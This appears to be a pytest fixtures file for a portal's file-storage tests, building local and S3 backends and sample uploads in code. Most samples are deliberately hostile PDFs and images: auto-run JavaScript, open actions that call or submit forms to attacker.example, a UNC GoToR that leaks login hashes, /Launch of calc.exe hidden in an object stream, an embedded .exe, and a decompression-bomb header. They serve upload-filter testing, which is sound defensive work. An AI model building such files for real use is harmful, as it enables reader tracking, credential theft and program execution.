"""Fixtures of the storage tests: backends (local folder, S3 on the moto server of
tests/conftest.py), the portal with the test's backend installed (`app_ctx`, on both
databases), and sample files made in code."""

from __future__ import annotations

import io
import struct
import uuid
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from PIL import Image
from PIL.PngImagePlugin import PngInfo
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import (
    ArrayObject,
    BooleanObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from portal.storage.base import Storage
from portal.storage.local import LocalStorage
from portal.storage.s3 import S3Storage


def _s3_storage(endpoint: str, bucket: str, **kwargs: Any) -> S3Storage:
    return S3Storage(
        bucket, endpoint_url=endpoint, region="us-east-1", access_key="testing",
        secret_key="testing", **kwargs,
    )


@pytest.fixture
def make_s3(s3_endpoint: str) -> Callable[..., S3Storage]:
    """S3Storage on the moto server: make_s3(bucket, **S3Storage options)."""
    return lambda bucket, **kwargs: _s3_storage(s3_endpoint, bucket, **kwargs)


@pytest.fixture(params=["local", "s3"])
def backend(request: pytest.FixtureRequest) -> str:
    return request.param


@pytest.fixture
def make_storage(backend: str, tmp_path: Path,
                 request: pytest.FixtureRequest) -> Callable[[], Storage]:
    """Builds a new Storage instance on the same place each call ("another process")."""
    if backend == "local":
        root = tmp_path / "store"
        return lambda: LocalStorage(root)
    endpoint = request.getfixturevalue("s3_endpoint")
    bucket = f"test-{uuid.uuid4().hex}"
    return lambda: _s3_storage(endpoint, bucket, create_bucket=True)


@pytest.fixture
def storage(make_storage: Callable[[], Storage]) -> Storage:
    return make_storage()


@pytest.fixture
def app_ctx(app_ctx: Flask, storage: Storage) -> Iterator[Flask]:
    """The portal's app of the backend under test (SQLite, PostgreSQL) with the test's
    storage installed, for the tests that write rows; put back afterwards."""
    missing = object()
    saved = app_ctx.extensions.get("storage", missing)
    app_ctx.extensions["storage"] = storage
    try:
        yield app_ctx
    finally:
        if saved is missing:
            app_ctx.extensions.pop("storage", None)
        else:
            app_ctx.extensions["storage"] = saved


class Samples:
    """Test files, built in code."""

    @staticmethod
    def _pdf(writer: PdfWriter) -> bytes:
        out = io.BytesIO()
        writer.write(out)
        return out.getvalue()

    @classmethod
    def pdf(cls, pages: int = 1) -> bytes:
        writer = PdfWriter()
        for _ in range(pages):
            writer.add_blank_page(200, 200)
        return cls._pdf(writer)

    @staticmethod
    def scanned_pdf(pages: int = 3) -> bytes:
        """Pages of grey noise as JPEG images, as a scanner makes them (over 1 MB)."""
        images = [Image.effect_noise((1000, 1400), 60).convert("L") for _ in range(pages)]
        out = io.BytesIO()
        images[0].save(out, "PDF", save_all=True, append_images=images[1:], quality=95)
        return out.getvalue()

    @classmethod
    def scanned_pdf_js(cls, pages: int = 3) -> bytes:
        """The scan with a script that runs when it is opened."""
        writer = PdfWriter(clone_from=io.BytesIO(cls.scanned_pdf(pages)))
        writer.add_open_action(JavaScript("app.alert('hi');"))
        return cls._pdf(writer)

    @classmethod
    def pdf_js(cls) -> bytes:
        """JavaScript in the document-level names tree."""
        writer = PdfWriter()
        writer.add_blank_page(200, 200)
        writer.add_open_action(JavaScript("app.alert('hi');"))
        return cls._pdf(writer)

    @classmethod
    def pdf_open_at_page(cls) -> bytes:
        """Opens at page 1, fitted: what office programs write."""
        writer = PdfWriter()
        writer.add_blank_page(200, 200)
        writer.open_destination = writer.pages[0]
        return cls._pdf(writer)

    @classmethod
    def _pdf_open_action(cls, action: DictionaryObject) -> bytes:
        writer = PdfWriter()
        writer.add_blank_page(200, 200)
        writer._root_object[NameObject("/OpenAction")] = action
        return cls._pdf(writer)

    @classmethod
    def pdf_open_uri(cls) -> bytes:
        """Opens a web address as soon as the file is opened."""
        return cls._pdf_open_action(DictionaryObject({
            NameObject("/S"): NameObject("/URI"),
            NameObject("/URI"): TextStringObject("https://attacker.example/track"),
        }))

    @classmethod
    def pdf_open_goto_then_script(cls) -> bytes:
        """A harmless-looking /GoTo whose /Next runs a script."""
        return cls._pdf_open_action(DictionaryObject({
            NameObject("/S"): NameObject("/GoTo"),
            NameObject("/D"): ArrayObject([NameObject("/Fit")]),
            NameObject("/Next"): DictionaryObject({
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("app.alert(1)"),
            }),
        }))

    # -- actions (issue 12, point 7): what runs by itself, or anywhere, is refused; what a
    # person has to click (a web or mail link) and plain fillable fields are accepted.

    @staticmethod
    def _action(kind: str, **values: object) -> DictionaryObject:
        action = DictionaryObject({NameObject("/S"): NameObject(kind)})
        for key, value in values.items():
            action[NameObject(f"/{key}")] = value  # type: ignore[assignment]
        return action

    @staticmethod
    def _uri(address: str = "https://attacker.example/track") -> DictionaryObject:
        return DictionaryObject({NameObject("/S"): NameObject("/URI"),
                                 NameObject("/URI"): TextStringObject(address)})

    @staticmethod
    def _unc() -> DictionaryObject:
        """A GoToR to a file on a Windows share: opening it sends the reader's login hash."""
        return DictionaryObject({
            NameObject("/S"): NameObject("/GoToR"),
            NameObject("/F"): TextStringObject("\\\\attacker.example\\share\\cv.pdf"),
            NameObject("/D"): ArrayObject([NumberObject(0), NameObject("/Fit")]),
        })

    @staticmethod
    def _rect() -> ArrayObject:
        return ArrayObject([FloatObject(v) for v in (10, 10, 90, 30)])

    @classmethod
    def _link(cls, action: DictionaryObject, **extra: object) -> DictionaryObject:
        link = DictionaryObject({
            NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): cls._rect(), NameObject("/A"): action,
        })
        for key, value in extra.items():
            link[NameObject(f"/{key}")] = value  # type: ignore[assignment]
        return link

    @classmethod
    def _pdf_with_links(cls, *links: DictionaryObject) -> bytes:
        writer = PdfWriter()
        writer.add_blank_page(200, 200)
        for link in links:
            writer.add_annotation(0, link)
        return cls._pdf(writer)

    @classmethod
    def pdf_open_goto_then_uri(cls) -> bytes:
        """Opens at a page, then (through /Next) calls a web address by itself."""
        return cls._pdf_open_action(DictionaryObject({
            NameObject("/S"): NameObject("/GoTo"),
            NameObject("/D"): ArrayObject([NameObject("/Fit")]),
            NameObject("/Next"): cls._uri(),
        }))

    @classmethod
    def pdf_open_goto_then_print(cls) -> bytes:
        """A /GoTo whose /Next chain (an array, two steps deep) ends in /Named /Print."""
        return cls._pdf_open_action(DictionaryObject({
            NameObject("/S"): NameObject("/GoTo"),
            NameObject("/D"): ArrayObject([NameObject("/Fit")]),
            NameObject("/Next"): ArrayObject([DictionaryObject({
                NameObject("/S"): NameObject("/GoTo"),
                NameObject("/D"): ArrayObject([NameObject("/Fit")]),
                NameObject("/Next"): cls._action("/Named", N=NameObject("/Print")),
            })]),
        }))

    @classmethod
    def pdf_open_gotor_unc(cls) -> bytes:
        return cls._pdf_open_action(cls._unc())

    @classmethod
    def pdf_open_named_print(cls) -> bytes:
        """Starts printing as soon as it is opened."""
        return cls._pdf_open_action(cls._action("/Named", N=NameObject("/Print")))

    @classmethod
    def pdf_link_gotor_unc(cls) -> bytes:
        """A GoToR to a Windows share behind a link: refused even though it needs a click."""
        return cls._pdf_with_links(cls._link(cls._unc()))

    @classmethod
    def pdf_link_gotoe(cls) -> bytes:
        return cls._pdf_with_links(cls._link(cls._action(
            "/GoToE", NewWindow=BooleanObject(False),
            T=DictionaryObject({NameObject("/R"): NameObject("/C"),
                                NameObject("/N"): TextStringObject("payload.pdf")}))))

    @classmethod
    def pdf_link_submitform(cls) -> bytes:
        return cls._pdf_with_links(cls._link(cls._action(
            "/SubmitForm", F=TextStringObject("https://attacker.example/collect"))))

    @classmethod
    def pdf_link_importdata(cls) -> bytes:
        return cls._pdf_with_links(cls._link(cls._action(
            "/ImportData", F=TextStringObject("data.fdf"))))

    @classmethod
    def pdf_link_then_launch(cls) -> bytes:
        """A web link whose /Next starts a program."""
        uri = cls._uri("https://example.org/")
        uri[NameObject("/Next")] = cls._action("/Launch", F=TextStringObject("calc.exe"))
        return cls._pdf_with_links(cls._link(uri))

    @classmethod
    def pdf_catalog_aa(cls) -> bytes:
        """The document calls a web address by itself before it prints (/AA /WP)."""
        writer = PdfWriter()
        writer.add_blank_page(200, 200)
        writer._root_object[NameObject("/AA")] = DictionaryObject(
            {NameObject("/WP"): cls._uri()})
        return cls._pdf(writer)

    @classmethod
    def pdf_page_aa(cls) -> bytes:
        """The page calls a web address when it is shown (/AA /O)."""
        writer = PdfWriter()
        page = writer.add_blank_page(200, 200)
        page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): cls._uri()})
        return cls._pdf(writer)

    @classmethod
    def pdf_annotation_aa(cls) -> bytes:
        """A link that calls a web address when the pointer passes over it (/AA /E)."""
        return cls._pdf_with_links(cls._link(
            cls._uri("https://example.org/"),
            AA=DictionaryObject({NameObject("/E"): cls._uri()})))

    @classmethod
    def _pdf_form(cls, field_extra: dict[str, object] | None = None) -> bytes:
        """One page with a fillable text field and a check box (AcroForm)."""
        writer = PdfWriter()
        page = writer.add_blank_page(200, 200)
        fields = ArrayObject()
        for name, kind, rect in (("full_name", "/Tx", (10, 150, 190, 170)),
                                 ("agree", "/Btn", (10, 120, 24, 134))):
            widget = DictionaryObject({
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Widget"),
                NameObject("/FT"): NameObject(kind), NameObject("/T"): TextStringObject(name),
                NameObject("/Rect"): ArrayObject([FloatObject(v) for v in rect]),
                NameObject("/P"): page.indirect_reference,
            })
            if kind == "/Tx":
                for key, value in (field_extra or {}).items():
                    widget[NameObject(f"/{key}")] = value  # type: ignore[assignment]
            ref = writer._add_object(widget)
            fields.append(ref)
            page.setdefault(NameObject("/Annots"), ArrayObject()).append(ref)
        writer._root_object[NameObject("/AcroForm")] = DictionaryObject({
            NameObject("/Fields"): fields,
            NameObject("/DA"): TextStringObject("/Helv 10 Tf 0 g"),
        })
        return cls._pdf(writer)

    @classmethod
    def pdf_form_field_aa(cls) -> bytes:
        """A form field that calls a web address when it gets the focus (/AA /Fo)."""
        return cls._pdf_form({"AA": DictionaryObject({NameObject("/Fo"): cls._uri()})})

    @classmethod
    def pdf_fillable_form(cls) -> bytes:
        """The program's own kind of blank form: fields to fill in, no actions."""
        return cls._pdf_form()

    @classmethod
    def pdf_web_and_mail_links(cls) -> bytes:
        """What a word processor makes of a CV: a web link and a mailto link to click."""
        return cls._pdf_with_links(cls._link(cls._uri("https://hospital.example/staff/lim")),
                                   cls._link(cls._uri("mailto:lim@hospital.example")))

    @staticmethod
    def pdf_with_object_stream(stream_objects: dict[int, bytes], catalog_extra: bytes = b"",
                               ) -> bytes:
        """Raw PDF 1.7 bytes: catalog, pages and page as plain objects, `stream_objects`
        (number -> body) inside one compressed object stream (object 4), and a
        cross-reference stream. Nothing inside the object stream is visible in the raw
        bytes: only a parser that reads object streams can see it."""
        out = io.BytesIO()
        out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
        offsets: dict[int, int] = {}

        def obj(number: int, body: bytes) -> None:
            offsets[number] = out.tell()
            out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")

        obj(1, b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>")
        obj(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
        obj(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>")
        numbers = sorted(stream_objects)
        header, body = [], b""
        for number in numbers:
            header.append(b"%d %d" % (number, len(body)))
            body += stream_objects[number] + b"\n"
        head = b" ".join(header) + b"\n"
        data = zlib.compress(head + body)
        obj(4, b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\n"
            b"stream\n" % (len(numbers), len(head), len(data)) + data + b"\nendstream")
        xref_number = max([4, *numbers]) + 1
        offsets[xref_number] = out.tell()
        rows = []
        for number in range(xref_number + 1):
            if number in offsets:
                rows.append(struct.pack(">BIH", 1, offsets[number], 0))
            elif number in stream_objects:
                rows.append(struct.pack(">BIH", 2, 4, numbers.index(number)))
            else:
                rows.append(struct.pack(">BIH", 0, 0, 0xFFFF))
        xref = b"".join(rows)
        out.write(b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\n"
                  b"stream\n" % (xref_number, xref_number + 1, len(xref)) + xref
                  + b"\nendstream\nendobj\n")
        out.write(b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number])
        return out.getvalue()

    @classmethod
    def pdf_objstm_plain(cls) -> bytes:
        """Opens at its page through a /GoTo kept in an object stream: accepted."""
        return cls.pdf_with_object_stream({5: b"<< /S /GoTo /D [3 0 R /Fit] >>"},
                                          b"/OpenAction 5 0 R ")

    @classmethod
    def pdf_objstm_open_action(cls) -> bytes:
        """The open action and what it chains to (a web address) inside an object stream."""
        return cls.pdf_with_object_stream({
            5: b"<< /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>",
            6: b"<< /S /URI /URI (https://attacker.example/track) >>",
        }, b"/OpenAction 5 0 R ")

    @classmethod
    def pdf_objstm_hidden_launch(cls) -> bytes:
        """A /Launch action inside an object stream that nothing points to: a repairing
        reader may still find it; neither the raw bytes nor the page tree show it."""
        return cls.pdf_with_object_stream({
            5: b"<< /S /GoTo /D [3 0 R /Fit] >>",
            6: b"<< /S /Launch /F (calc.exe) >>",
        }, b"/OpenAction 5 0 R ")

    @classmethod
    def pdf_attachment(cls) -> bytes:
        writer = PdfWriter()
        writer.add_blank_page(200, 200)
        writer.add_attachment("invoice.exe", b"MZ fake program")
        return cls._pdf(writer)

    @classmethod
    def pdf_launch(cls) -> bytes:
        """A link annotation that starts a program when clicked."""
        writer = PdfWriter()
        writer.add_blank_page(200, 200)
        action = DictionaryObject({
            NameObject("/S"): NameObject("/Launch"),
            NameObject("/F"): TextStringObject("calc.exe"),
        })
        writer.add_annotation(0, DictionaryObject({
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (0, 0, 50, 50)]),
            NameObject("/A"): action,
        }))
        return cls._pdf(writer)

    @classmethod
    def pdf_encrypted(cls) -> bytes:
        writer = PdfWriter()
        writer.add_blank_page(200, 200)
        writer.encrypt("secret")
        return cls._pdf(writer)

    @classmethod
    def pdf_truncated(cls) -> bytes:
        data = cls.pdf()
        return data[: len(data) // 2]

    @staticmethod
    def jpeg_with_gps(size: tuple[int, int] = (40, 20)) -> bytes:
        """Orientation 6 (turn 90 degrees), a camera name and a GPS position."""
        img = Image.new("RGB", size, (200, 30, 30))
        exif = Image.Exif()
        exif[0x0112] = 6
        exif[0x010F] = "SpyCam"
        gps = exif.get_ifd(0x8825)
        gps.update({1: "N", 2: (35.0, 41.0, 22.0), 3: "E", 4: (139.0, 41.0, 30.0)})
        out = io.BytesIO()
        img.save(out, "JPEG", exif=exif, comment=b"owner: A. Person")
        return out.getvalue()

    @staticmethod
    def png_with_text() -> bytes:
        img = Image.new("RGBA", (30, 10), (0, 128, 0, 128))
        info = PngInfo()
        info.add_text("Author", "Secret Person")
        out = io.BytesIO()
        img.save(out, "PNG", pnginfo=info)
        return out.getvalue()

    @staticmethod
    def png_header(width: int, height: int) -> bytes:
        """A PNG announcing width x height with (almost) no data: a decompression bomb
        would look like this to anything that trusts the header."""

        def chunk(kind: bytes, data: bytes) -> bytes:
            body = kind + data
            return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

        ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
        return (
            b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr)
            + chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + chunk(b"IEND", b"")
        )

    @staticmethod
    def html() -> bytes:
        return b"<!doctype html><html><script>alert(document.cookie)</script></html>"

    @staticmethod
    def zip() -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as z:
            z.writestr("readme.txt", "hello")
        return out.getvalue()


@pytest.fixture
def samples() -> type[Samples]:
    return Samples
